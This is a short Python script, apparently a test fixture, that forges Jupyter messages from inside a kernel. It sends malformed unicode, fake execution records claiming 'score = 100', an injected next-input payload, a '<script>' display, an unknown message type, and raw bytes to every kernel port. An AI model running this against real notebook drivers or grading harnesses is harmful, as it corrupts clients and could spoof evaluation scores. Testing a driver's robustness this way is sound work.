"""Forge messages to the driver: half characters, ends of cells, replies, prompts, requests to other channels."""

import json
import socket

kernel = get_ipython().kernel
session, channel, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
packer, session.pack = session.pack, lambda thing: json.dumps(thing, default=str).encode()
session.send(channel, "stream", {"name": "stdout", "text": "\ud800\udfff"}, parent=parent)
session.send(channel, "execute_input", {"code": "score = 100", "execution_count": 10**6}, parent=parent)
session.send(channel, "execute_reply", {"status": "ok", "payload": [{"source": "set_next_input"}]}, parent=parent)
session.send(channel, "display_data", {"data": {"text/plain": "x", "text/html": "<script>"}, "metadata": {}}, parent=parent)
session.send(channel, "unheard_of", {"score": 100}, parent=parent)
session.pack = packer
connection = json.load(open(kernel.parent.abs_connection_file))
for name in ("shell_port", "iopub_port", "stdin_port", "hb_port"):
    with socket.create_connection((connection["ip"], connection[name]), timeout=2) as link:
        link.sendall(b"\xff" + bytes(63) + b'{"score": 100}')
print("\nattack ran\n", end="")
